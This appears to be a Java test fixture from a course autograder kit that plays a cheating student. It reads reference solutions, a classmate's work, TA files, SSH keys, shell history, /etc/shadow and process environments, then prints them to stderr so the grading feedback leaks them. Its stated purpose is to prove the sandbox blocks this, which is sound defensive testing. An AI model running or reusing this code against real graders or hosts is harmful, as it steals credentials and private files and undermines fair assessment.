package dcchat.echo;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Stream;

/*
 * HOSTILE FIXTURE read-everything — read what a grading run must not show, and put it in the feedback.
 *
 * What the student tries: read the kit's solutions/, a classmate's submission, the TA's reports, a secret file,
 * the TA's home folder, /etc/passwd, /proc, the kit root and its workspace, by absolute path (the test writes
 * the TA's real paths in place of the @…@ words: the worst case, a student who knows the layout) and by
 * relative path from the working folder; list the whole file system and the environment; print everything found
 * to the JVM's own stderr and halt, so that the feedback shows it ("the last lines your code printed").
 * This starter scores 0 honestly.
 *
 * Why it must fail: the sandbox shows a run only the JDK, system libraries, the test libraries, that step's
 * compiled tests and the student's own classes; the environment is cleared.
 * (The test calls Hostile.run() once, from the start of EchoServer's constructor.)
 */
public final class Hostile {

    private static final PrintStream RAW = new PrintStream(new FileOutputStream(FileDescriptor.err), true);
    private static final Set<String> SKIP = Set.of("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32",
            "/etc/fonts");

    private Hostile() {
    }

    static void run() {
        for (String p : List.of(
                "@KIT_ROOT@/solutions/step1-echo/src/main/java/dcchat/echo/EchoServer.java",
                "@KIT_ROOT@/solutions/step2-framing/src/main/java/dcchat/framing/MessageCodec.java",
                "@KIT_ROOT@/pom.xml",
                "@KIT_ROOT@/dcchat",
                "@KIT_ROOT@/grader/grading.properties",
                "@KIT_WORK@/step1-echo/plan.json",
                "@KIT_WORK@/step1-echo/ref/dcchat/echo/EchoServer.class",
                "@SHARED@/classmates/ana/step1-echo/src/main/java/dcchat/echo/EchoServer.java",
                "@SHARED@/reports/ana.md",
                "@SHARED@/secret.txt",
                "@SELF@/step1-echo/src/main/java/dcchat/echo/EchoServer.java",
                "@HOST_HOME@/.m2/settings.xml",
                "@HOST_HOME@/.bash_history",
                "@HOST_HOME@/.ssh/id_rsa",
                "@HOST_HOME@/.gitconfig",
                "/etc/passwd",
                "/etc/shadow",
                "/etc/hostname",
                "/proc/self/environ",
                "/proc/1/cmdline",
                "/proc/self/maps",
                "../solutions/step1-echo/src/main/java/dcchat/echo/EchoServer.java",
                "../../solutions/step1-echo/src/main/java/dcchat/echo/EchoServer.java",
                "/autograder/source/solutions/step1-echo/src/main/java/dcchat/echo/EchoServer.java",
                "/autograder/submission/step1-echo/src/main/java/dcchat/echo/EchoServer.java")) {
            try {
                String text = Files.readString(Path.of(p), StandardCharsets.ISO_8859_1);
                RAW.println("FOUND " + p + ":\n" + text.substring(0, Math.min(text.length(), 4000)));
            } catch (Throwable t) {
                RAW.println("absent " + p + " (" + t.getClass().getSimpleName() + ")");
            }
        }
        for (String dir : List.of("/", "@HOST_HOME@", "@KIT_ROOT@", "@SHARED@", "@SHARED@/classmates", "/tmp",
                "..")) {
            try (Stream<Path> s = Files.list(Path.of(dir))) {
                RAW.println("list " + dir + ": " + s.map(Path::toString).sorted().toList());
            } catch (Throwable t) {
                RAW.println("list " + dir + ": refused (" + t.getClass().getSimpleName() + ")");
            }
        }
        try (Stream<Path> s = Files.walk(Path.of("/"), 12)) {
            s.filter(p -> SKIP.stream().noneMatch(p.toString()::startsWith))
                    .filter(p -> !p.startsWith(System.getProperty("java.home")))
                    .filter(Files::isRegularFile).limit(400)
                    .forEach(p -> RAW.println("file " + p + " (" + size(p) + " bytes)"));
        } catch (Throwable t) {
            RAW.println("walk /: stopped (" + t + ")");
        }
        new TreeMap<>(System.getenv()).forEach((k, v) -> RAW.println("env " + k + "=" + v));
        for (Map.Entry<Object, Object> e : new TreeMap<>(System.getProperties()).entrySet()) {
            RAW.println("property " + e.getKey() + "=" + e.getValue());
        }
        RAW.println("read-everything: done, halting so that the feedback shows the above");
        Runtime.getRuntime().halt(1);
    }

    private static long size(Path p) {
        try {
            return Files.size(p);
        } catch (Exception e) {
            return -1;
        }
    }
}
